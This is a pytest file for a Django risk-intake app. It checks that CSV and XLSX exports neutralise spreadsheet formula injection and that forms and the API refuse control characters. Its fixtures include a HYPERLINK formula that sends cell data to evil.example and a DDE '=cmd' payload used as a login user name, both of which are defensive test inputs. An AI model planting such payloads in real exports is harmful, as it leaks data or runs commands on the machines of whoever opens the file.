"""Issue 24 items 6 and 7: exports carry no live formulas and survive control characters; text with control
characters is refused at the boundary (forms, the API) with the field named; the database's own refusals reach
an API caller as the documented JSON error."""

import io

import pytest
from django.db import DataError
from django.test import Client
from openpyxl import load_workbook

from riskgate.core import tabular
from riskgate.core.models import AuditEvent
from riskgate.intake import services
from riskgate.intake.models import RiskInformation
from tests.core.exporting import exported

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+86 138", "'+86 138"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("a\x0bb\x00c", "abc"),
        ("正常标题 = 2", "正常标题 = 2"),
        (-2, -2),
        (None, None),
    ],
)
def test_one_helper_neutralises_every_cell(value, written):
    assert tabular.cell(value) == written


def _item(world, title):
    info = services.create_information(
        world.user("xian"),
        data={"source_type": "media", "channel": "hotline", "title": "占位", "hazard_types": ["physical"]},
    )
    RiskInformation.objects.filter(pk=info.pk).update(title=title)  # as an older import could have stored it
    return info


def test_information_exports_hold_formulas_as_text_and_survive_control_characters(world):
    _item(world, FORMULA)
    _item(world, "控制\x0b字符\x01标题")  # (PostgreSQL stores no NUL at all)
    client = world.client_for("bureau_officer")
    text = exported(client, "intake.information").decode("utf-8-sig")
    assert "'" + FORMULA.replace('"', '""') in text and "控制字符标题" in text
    sheet = load_workbook(io.BytesIO(exported(client, "intake.information", "xlsx"))).worksheets[0]
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c for c in cells if c.data_type == "f"], "no formula cell"
    values = {c.value for c in cells}
    assert "'" + FORMULA in values and "控制字符标题" in values


def test_the_audit_export_holds_a_hostile_user_name_as_text(world):
    Client().post("/accounts/login/", {"username": "=cmd|' /C calc'!A0", "password": "x"}, REMOTE_ADDR="10.9.9.9")
    assert AuditEvent.objects.filter(action="login.failed", object_id__startswith="=cmd").exists()
    text = exported(world.client_for("auditor"), "core.audit").decode("utf-8-sig")
    assert ",'=cmd|" in text and ",=cmd|" not in text


def test_the_public_report_form_refuses_a_control_character_in_its_field(world):
    from tests.intake.test_channels import REPORT

    before = RiskInformation.objects.count()
    response = Client().post("/report/", {**REPORT, "title": "电池\x0b冒烟"}, REMOTE_ADDR="10.0.0.9")
    assert (
        response.status_code == 400 and "控制字符" in response.content.decode() and "\\x0b" in response.content.decode()
    )
    assert RiskInformation.objects.count() == before


def test_the_api_refuses_control_characters_naming_the_field_and_stores_nothing(world):
    client = world.client_for("bureau_officer")
    before = RiskInformation.objects.count()
    one = client.post(
        "/api/v1/intake/information",
        {"source_type": "media", "title": "含\x00空字符", "hazard_types": ["physical"]},
        content_type="application/json",
    )
    assert one.status_code == 422 and one.json()["errors"][0]["field"] == "title"
    good = {"external_id": "ok-1", "title": "正常的一条", "hazard_types": "physical"}
    batch = client.post(
        "/api/v1/intake/batches",
        {"items": [good, {"external_id": "bad-2", "title": "坏\x00的一条", "hazard_types": "physical"}]},
        content_type="application/json",
    )
    assert batch.status_code == 422 and batch.json()["errors"][0]["field"] == "items.1.title"
    query = client.get("/api/v1/intake/information?q=%00x")
    assert query.status_code == 422 and query.json()["errors"][0]["field"] == "q"
    assert RiskInformation.objects.count() == before


def test_an_error_of_the_database_is_the_documented_json_error(world, monkeypatch):
    def refuse(*args, **kwargs):
        raise DataError("value out of range")

    monkeypatch.setattr(services, "create_information", refuse)
    response = world.client_for("bureau_officer").post(
        "/api/v1/intake/information",
        {"source_type": "media", "title": "t", "hazard_types": ["physical"]},
        content_type="application/json",
    )
    assert response.status_code == 422 and set(response.json()) == {"code", "message", "errors"}
